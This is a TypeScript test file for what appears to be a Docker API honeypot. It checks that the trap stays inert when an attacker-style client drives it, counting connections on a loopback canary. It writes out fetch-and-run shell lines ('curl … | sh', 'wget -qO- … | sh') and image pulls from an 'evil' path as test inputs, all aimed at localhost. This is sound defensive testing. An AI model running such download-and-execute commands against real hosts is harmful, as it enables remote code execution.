// Safety: the trap never fetches or executes what it is sent. Payload URLs point at a canary listener on
// loopback; after a full attack flow (pull, create, start, attach, exec, upload) the canary saw no connection.
import { createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dockerAsync } from '../../lab/index.js';
import { http, startTestTrap, type TestTrap } from './helpers.js';

let t: TestTrap;
let canary: Server;
let canaryPort = 0;
let hits = 0;

beforeAll(async () => {
  t = await startTestTrap();
  canary = createServer((s) => { hits++; s.destroy(); });
  await new Promise<void>((r) => canary.listen(0, '127.0.0.1', () => r()));
  canaryPort = (canary.address() as { port: number }).port;
});
afterAll(async () => {
  await t.close();
  await new Promise((r) => canary.close(r));
});

describe('trap: inert', () => {
  it('contacts nothing an attacker names, through every path that carries a command', async () => {
    const url = `http://127.0.0.1:${canaryPort}/x.sh`;
    const env = { DOCKER_HOST: `tcp://127.0.0.1:${t.port}` };
    const run = await dockerAsync(env, ['run', '--rm', 'alpine', 'sh', '-c', `wget -qO- ${url} | sh; curl -s ${url} | sh`]);
    expect(run.code).toBe(0);
    const exec = await dockerAsync(env, ['exec', 'web', 'sh', '-c', `curl ${url} | sh`]);
    expect(exec.code).toBe(0);
    const viaStdin = await dockerAsync(env, ['run', '-i', '--rm', 'alpine', 'sh'], `curl -s ${url} | sh\n`);
    expect(viaStdin.code).toBe(0);
    expect((await http(t.port, 'POST', `/images/create?fromImage=127.0.0.1:${canaryPort}/evil/image&tag=1`)).status).toBe(200);
    expect((await http(t.port, 'POST', '/images/create?fromSrc=' + encodeURIComponent(url) + '&repo=x')).status).toBe(200);
    expect(t.eventsOf('trap.indicator.extracted').some((e) => e.value === url)).toBe(true);
    await new Promise((r) => setTimeout(r, 200));
    expect(hits).toBe(0);
  });
});
